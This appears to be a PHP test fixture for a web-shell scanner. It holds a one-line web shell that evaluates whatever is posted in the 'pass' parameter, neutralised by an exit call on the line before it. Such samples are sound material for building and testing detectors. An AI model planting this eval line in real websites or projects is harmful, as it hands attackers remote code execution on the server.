<?php exit; /* shellsweep test sample: inert, never functional */ ?>
<?php /*测试用，勿删*/ $k="pass";if(isset($_POST[$k])){eval($_POST[$k]);}
